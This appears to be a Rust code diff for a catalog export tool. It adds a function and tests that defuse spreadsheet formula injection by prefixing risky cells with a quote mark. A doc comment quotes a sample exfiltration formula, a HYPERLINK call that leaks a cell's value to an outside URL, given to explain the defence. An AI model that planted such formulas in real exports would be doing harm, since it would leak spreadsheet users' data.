@@ -7,6 +7,7 @@
 //!
 //! The output is deterministic: exporting the same catalog twice gives identical files.
 
+use std::borrow::Cow;
 use std::path::{Path, PathBuf};
 
 use clap::ValueEnum;
@@ -174,4 +175,32 @@ fn write_spreadsheets(catalog: &Catalog, dir: &Path) -> std::io::Result<Vec<Path
     }
     writer.flush()?;
     Ok(vec![resources_path, organizations_path])
+}
+
+/// A cell for a spreadsheet, made inert: text beginning with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is a formula to Excel, Calc and Sheets (`=HYPERLINK("http://…?leak="&A1)`),
+/// so it gets a leading `'`, as OWASP recommends, and is shown as the text it is. Only the
+/// exports meant for spreadsheets use this; the HSDS package's CSVs are data interchange and
+/// stay byte-exact.
+pub fn spreadsheet_cell(value: &str) -> Cow<'_, str> {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{value}"))
+    } else {
+        Cow::Borrowed(value)
+    }
+}
+
+#[cfg(test)]
+mod spreadsheet_tests {
+    use super::spreadsheet_cell;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_run_are_shown_as_text() {
+        for formula in ["=1+1", "+1 888", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(spreadsheet_cell(formula), format!("'{formula}"));
+        }
+        for text in ["Hotline", "", " =1", "1-888", "'quoted"] {
+            assert_eq!(spreadsheet_cell(text), text);
+        }
+    }
 }
